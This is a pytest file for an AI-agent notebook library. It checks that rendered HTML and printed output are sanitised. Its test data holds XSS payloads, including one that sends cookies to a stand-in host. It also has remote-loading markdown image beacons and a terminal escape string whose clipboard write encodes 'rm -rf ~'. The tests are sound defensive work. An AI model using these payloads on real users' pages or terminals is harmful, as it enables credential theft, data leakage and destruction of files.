"""What reaches the page is inert (SECURITY.md invariant 3): HTML from results and the model, in the
rendering a finished run leaves in its cell (`run._repr_html_()`, the same pieces the live view shows), and
text output free of terminal control sequences (`print(run)`, the headless summary).
"""

from __future__ import annotations

import re

import pytest

from nbagent import Agent, AssistantMessage, ScriptedModel, ToolCall, ToolResult, tool

REMOTE = "http://127.0.0.1:9/rt3"

_LOADERS = r"(?:img|image|iframe|frame|embed|object|link|script|video|audio|source|input|body|svg|use|track)"


def problems(html: str) -> list[str]:
    found = []
    if re.search(r"<\s*script", html, re.I):
        found.append("a <script> element")
    for m in re.finditer(r"<[a-zA-Z][^>]*?\son[a-z]+\s*=", html):
        found.append(f"an event handler: {m.group(0)[:80]}")
    if re.search(r"<\s*(iframe|object|embed|form|base|meta)\b", html, re.I):
        found.append("an iframe/object/embed/form/base/meta element")
    if re.search(rf"<\s*{_LOADERS}\b[^>]*\s(?:src|href|data|srcset|poster|background)\s*=\s*[\"']?https?:", html, re.I):
        found.append("an element that loads a remote URL")
    if re.search(r"url\(\s*[\"']?https?:|@import", html, re.I):
        found.append("a stylesheet that loads a remote URL")
    if re.search(r"(?:href|src)\s*=\s*[\"']?\s*javascript:", html, re.I):
        found.append("a javascript: URL")
    return found


def _run_returning(value):
    @tool(read_only=True)
    def fetch() -> object:
        """Fetch a thing."""
        return value

    model = ScriptedModel([AssistantMessage(tool_calls=[ToolCall(name="fetch", arguments={})]),
                           AssistantMessage(text="done")])
    return Agent(model=model, tools=[fetch]).run_sync("go")


class Evil:
    def __init__(self, html: str) -> None:
        self.html = html

    def _repr_html_(self) -> str:
        return self.html

    def __repr__(self) -> str:
        return "Evil()"


RICH = [
    ("img-onerror", '<img src="x" onerror="fetch(\'http://127.0.0.1:9/steal?c=\'+document.cookie)">'),
    ("script", "<b>table</b><script>alert(document.domain)</script>"),
    ("remote-stylesheet", f'<link rel="stylesheet" href="{REMOTE}/x.css"><b>ok</b>'),
    ("style-import", f"<style>@import url({REMOTE}/x.css);</style><b>ok</b>"),
    ("iframe", f'<iframe src="{REMOTE}/frame"></iframe>'),
    ("svg-onload", '<svg onload="alert(1)"><circle r="3"/></svg>'),
]


@pytest.mark.parametrize("markup", [r[1] for r in RICH], ids=[r[0] for r in RICH])
def test_result_repr_html_is_sanitised(markup):
    run = _run_returning(Evil(markup))
    assert run.calls[0].status == "ok"
    html = run._repr_html_()
    assert not problems(html), problems(html)


def test_result_link_html_is_not_trusted():
    """render asks a result's `details` for `link_html()` and pastes what it returns into the page."""
    class Linked:
        def link_html(self) -> str:
            return '<a href="#" onmouseover="alert(1)">cell</a><img src="x" onerror="alert(2)">'

    run = _run_returning(Linked())
    html = run._repr_html_()
    assert not problems(html), problems(html)


def test_pandas_styler_over_untrusted_strings():
    pd = pytest.importorskip("pandas")
    pytest.importorskip("jinja2")
    df = pd.DataFrame({"name": ['<img src=x onerror="alert(1)">', "bob"]})
    run = _run_returning(df.style.highlight_max(axis=0))
    html = run._repr_html_()
    assert not problems(html), problems(html)


def test_control_dataframe_html_is_shown_and_escaped():
    pd = pytest.importorskip("pandas")
    df = pd.DataFrame({"name": ["<script>alert(1)</script>", "bob"]})
    html = _run_returning(df)._repr_html_()
    assert "<table" in html and "bob" in html and not problems(html)


def _run_saying(text: str):
    return Agent(model=ScriptedModel([AssistantMessage(text=text)])).run_sync("go")


MARKDOWN = [
    ("inline-image", f"Here is the chart: ![chart]({REMOTE}/pixel.png?u=secret)"),
    ("reference-image", f"See ![chart][c]\n\n[c]: {REMOTE}/pixel.png"),
    ("image-in-link", f"[![x]({REMOTE}/a.png)](https://example.org)"),
]


@pytest.mark.parametrize("text", [m[1] for m in MARKDOWN], ids=[m[0] for m in MARKDOWN])
def test_model_markdown_loads_nothing_remote(text):
    html = _run_saying(text)._repr_html_()
    assert not problems(html), problems(html)


def test_control_model_markdown_renders_and_escapes_raw_html():
    html = _run_saying('**bold** <img src=x onerror="alert(1)"> [link](javascript:alert(1))')._repr_html_()
    assert "<strong>bold</strong>" in html and not problems(html)


def test_control_result_text_is_escaped():
    html = _run_returning("<script>alert(1)</script>")._repr_html_()
    assert "&lt;script&gt;" in html and not problems(html)


# -- terminal control sequences in text output -------------------------------------------------------------

ESCAPES = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x1b[1A\rall good\x1b]8;;http://127.0.0.1:9/\x1b\\click\x1b]8;;\x1b\\"


def test_print_run_strips_escapes_from_tool_output():
    run = _run_returning(ESCAPES)
    text = str(run) + "\n".join(str(c) for c in run.calls)
    assert "\x1b" not in text and "\x07" not in text, repr(text[-300:])


def test_print_run_strips_escapes_from_model_text():
    run = _run_saying("answer " + ESCAPES)
    assert "\x1b" not in str(run), repr(str(run))


def test_print_run_strips_escapes_from_tool_errors():
    @tool
    def boom() -> str:
        """Fail."""
        raise RuntimeError("bad " + ESCAPES)

    model = ScriptedModel([AssistantMessage(tool_calls=[ToolCall(name="boom", arguments={})]),
                           AssistantMessage(text="done")])
    run = Agent(model=model, tools=[boom], approver=lambda r: True).run_sync("go")
    assert run.calls[0].status == "error"
    assert "\x1b" not in str(run) + str(run.calls[0])


def test_control_print_run_shows_the_text():
    run = _run_returning("plain result text")
    assert "done" in str(run)
